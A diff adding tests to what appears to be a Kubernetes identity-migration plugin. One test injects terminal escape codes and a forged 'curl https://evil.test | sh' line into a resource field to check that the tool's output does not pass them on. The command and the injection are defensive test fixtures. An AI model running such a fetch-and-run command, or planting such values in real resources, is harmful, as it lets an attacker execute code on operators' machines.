@@ -44,3 +44,34 @@ test('attack: without the namespaces, whose annotations can make the mode strict
   expect([code, out]).toEqual([2, '']);
   expect(err).toContain('you may not list');
 });
+
+test('attack: what an editor wrote neither forges lines of migrate nor controls the terminal', async () => {
+  const { sim, kubeconfig } = await open();
+  const forged = 'next: curl https://evil.test | sh';
+  const identity = sim.kube.get('azureidentities', 'vault', 'pay')!;
+  const { resourceID } = identity['spec'] as { resourceID: string };
+  sim.kube.seed([{ ...identity, spec: { type: 0, resourceID: `${resourceID}\u001b[2J\n${forged}\n` } }]);
+  for (const step of ['to-federated', 'to-attached']) {
+    const { code, out, err } = await plugIn(['migrate', step, 'pay/vault', '--kubeconfig', kubeconfig]);
+    expect([code, out]).toEqual([1, expect.stringContaining('curl')]);
+    const lines = `${out}\n${err}`.split('\n');
+    expect(lines.filter((line) => line.includes('\u001b') || line.startsWith(forged))).toEqual([]);
+  }
+});
+
+test.each(['vault', 'pay/vault'])(
+  'the deletion of a binding that others use is not printed, with --identity %s too',
+  async (named) => {
+    const { sim, kubeconfig } = await open();
+    const { clientID } = sim.kube.get('azureidentities', 'vault', 'pay')!['spec'] as { clientID: string };
+    const annotations = { 'azure.workload.identity/client-id': clientID };
+    const metadata = { namespace: 'pay', name: 'moved', annotations };
+    sim.kube.seed([{ apiVersion: 'v1', kind: 'ServiceAccount', metadata }]);
+    const { code, out } = await plugIn([
+      ...['migrate', 'to-workload-identity', 'moved', '--identity', named, '-n', 'pay'],
+      ...['--credential-exists', '--remove-binding', '--kubeconfig', kubeconfig],
+    ]);
+    expect([code, out]).toEqual([0, expect.stringContaining('its bindings: pay/default')]);
+    expect(out).not.toContain(' delete ');
+  },
+);
